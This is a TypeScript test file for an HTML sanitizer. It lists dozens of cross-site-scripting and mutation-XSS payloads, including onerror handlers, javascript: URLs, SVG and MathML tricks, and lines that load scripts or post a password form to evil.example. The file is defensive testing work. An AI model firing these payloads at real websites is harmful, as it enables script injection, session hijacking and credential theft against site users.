import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cleanHtml } from '../../../../server/rich-text/parse/clean-html.ts';
import { elementsOf, findForbidden } from './find-forbidden.ts';

/** Nothing that runs is left, whatever a browser makes of what was written. */
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src="data:,alert(1)"></script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/uploads/a.webp" onerror=alert(1)>',
  '<img/src="/uploads/a.webp"/onload=alert(1)>',
  '<img src="/uploads/a.webp"onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="/uploads/../admin/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="http://evil.example/x.png">',
  '<image src="/uploads/a.webp" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="data:text/html,x">',
  '<body onload=alert(1)><p onclick=alert(1)>x</p></body>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:9"><a href="/x">all over the page</a></div>',
  '<style>@import "//evil.example/x.css"</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video src="javascript:alert(1)" onerror=alert(1)><source onerror=alert(1)></video>',
  '<video controls src="/media/a.mp4" poster="javascript:alert(1)" autoplay onplay=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<a href="/x" ping="//evil.example" id="__proto__" name="constructor" download>x</a>',
  '<constructor>x</constructor><__proto__ onclick=alert(1)>x</__proto__><hasownproperty>x',
  '<p class="constructor __proto__ toString admin-panel">x</p>',
];

/** Texts that become another tree when they are written and read again carelessly (mXSS). */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><title><template><style></title><img src=x onerror=alert(1)></style></template></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><style></noframes><img src=x onerror=alert(1)></style>',
  '<title><style></title><img src=x onerror=alert(1)></style>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<select><style><img src=x onerror=alert(1)></style></select><select><iframe><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>--><!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml <img src=x onerror=alert(1)>?>',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">&lt;img src=x onerror=alert(1)&gt;</p>',
  '<img src="/uploads/a.webp" alt="`&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<a href="/a" title="&lt;style&gt;&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<table><a href="/a"><table><tr><td><a href="/b"><style><!--</style></a><img src=x onerror=alert(1)>',
  '<pre>\n\n<b>\n</b></pre><pre>&#10;x</pre><listing>\n\nx</listing>',
];

describe('cleaning hostile markup', () => {
  for (const [kind, texts] of Object.entries({ script: SCRIPTS, mutation: MUTATIONS })) {
    texts.forEach((text, index) => {
      it(`leaves only allowed elements and attributes of ${kind} ${index + 1}: ${text.slice(0, 50)}`, () => {
        const cleaned = cleanHtml(text);
        assert.deepEqual(findForbidden(cleaned), []);
        assert.equal(cleanHtml(cleaned), cleaned);
      });
    });
  }

  it('has a check that finds fault with every one of these texts before it is cleaned', () => {
    for (const text of SCRIPTS) assert.notDeepEqual(findForbidden(text), [], text);
  });

  it('removes what is no text for people together with its content', () => {
    const tags = 'script style template iframe object noscript textarea select title svg math'.split(' ');
    for (const tag of tags) assert.equal(cleanHtml(`<p>a</p><${tag}>secret</${tag}><p>b</p>`), '<p>a</p><p>b</p>', tag);
  });

  it('keeps the words of elements that it does not know', () => {
    assert.equal(cleanHtml('<p><o:p>工程</o:p><blink>资料</blink></p>'), '<p>工程资料</p>');
  });

  it('keeps text that looks like markup as text', () => {
    const cleaned = cleanHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt; a &amp;&amp; b</p>');
    assert.equal(cleaned, '<p>&lt;script&gt;alert(1)&lt;/script&gt; a &amp;&amp; b</p>');
    assert.deepEqual(
      elementsOf(cleaned).map((element) => element.tagName),
      ['p'],
    );
  });

  it('drops control characters and keeps what people type', () => {
    assert.equal(cleanHtml('<p>a\0\u0001\u001b\u0085b&#1;&#x7f;\ufeff</p>'), '<p>ab</p>');
    assert.equal(cleanHtml('<p>一\t二\n三\u00a0四 😀 &#13;</p>'), '<p>一\t二\n三&nbsp;四 😀 \n</p>');
  });
});
